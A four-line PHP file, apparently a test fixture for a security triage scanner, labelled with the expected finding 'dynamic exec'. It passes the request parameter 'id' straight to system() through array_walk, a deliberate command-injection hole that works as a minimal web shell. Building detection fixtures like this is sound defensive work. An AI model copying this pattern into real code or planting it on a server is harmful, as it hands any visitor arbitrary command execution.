<?php
// triage-expect: triage_php_tiny_dynamic_exec
$q = array((string) $_GET['id']);
array_walk($q, 'system');
